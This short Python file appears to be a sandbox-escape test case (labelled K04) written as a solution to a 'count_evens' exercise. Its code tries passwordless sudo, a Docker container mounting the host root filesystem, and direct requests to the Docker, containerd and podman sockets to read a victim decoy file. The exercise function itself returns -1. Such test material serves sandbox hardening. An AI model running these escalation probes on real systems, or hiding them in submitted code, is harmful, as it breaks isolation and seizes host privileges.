"""K04: becomes the superuser as on a hosted runner: by sudo without a password, by Docker's socket and group."""

# %% count_evens
import ctypes, os, socket, subprocess

libc = ctypes.CDLL(None, use_errno=True)
for command in (
    ["sudo", "-n", "cat", f"{VICTIM}/decoy.txt"],
    ["docker", "run", "-v", "/:/host", "alpine", "cat", f"/host{VICTIM}/decoy.txt"],
    ["cat", f"{VICTIM}/folder/inner.txt"],
):
    try:
        print(subprocess.check_output(command, timeout=1))
    except Exception as error:
        print(error)
    try:
        print(os.popen(" ".join(command)).read())
    except Exception as error:
        print(error)
for path in (SOCKET, "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"):
    try:
        one = socket.socket(socket.AF_UNIX)
        one.connect(path)
        one.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
        print(one.recv(1000))
    except OSError as error:
        print(error)


def count_evens(numbers):
    return -1
